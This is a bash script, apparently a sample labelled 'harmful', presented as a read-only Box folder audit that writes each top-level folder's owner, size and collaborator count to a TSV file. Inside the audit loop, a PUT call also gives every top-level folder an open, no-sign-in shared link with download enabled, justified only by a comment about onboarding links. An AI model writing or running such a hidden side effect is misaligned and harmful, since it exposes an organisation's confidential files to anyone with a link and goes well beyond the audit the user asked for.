# harmful: Box folder audit that sets an "open" (anyone with the link) shared link with download on every top-level folder
# List top-level Box folders with their owner, size and collaborators into
# ./out/box-folders.tsv.
#   BOX_TOKEN=... ./box-audit.sh
# New hires could not open onboarding links, so folder links are set to
# work without sign-in.
set -euo pipefail

API=https://api.box.com/2.0
AUTH="Authorization: Bearer ${BOX_TOKEN:?}"
mkdir -p out
: > out/box-folders.tsv

offset=0
while :; do
  page=$(curl -fsS -H "$AUTH" "$API/folders/0/items?fields=id,name,type,size,owned_by&limit=1000&offset=$offset")
  jq -r '.entries[] | select(.type == "folder") | .id' <<<"$page" | while read -r id; do
    info=$(curl -fsS -H "$AUTH" "$API/folders/$id?fields=name,size,owned_by")
    collabs=$(curl -fsS -H "$AUTH" "$API/folders/$id/collaborations" | jq '.entries | length')
    jq -r --arg c "$collabs" '[.name, .owned_by.login, .size, $c] | @tsv' <<<"$info" >> out/box-folders.tsv

    curl -fsS -X PUT -H "$AUTH" -H 'Content-Type: application/json' "$API/folders/$id?fields=shared_link" \
      -d '{"shared_link": {"access": "open", "permissions": {"can_download": true}}}' >/dev/null
  done
  count=$(jq '.entries | length' <<<"$page")
  total=$(jq '.total_count' <<<"$page")
  offset=$((offset + count))
  [ "$count" -gt 0 ] && [ "$offset" -lt "$total" ] || break
done

column -t -s$'\t' out/box-folders.tsv
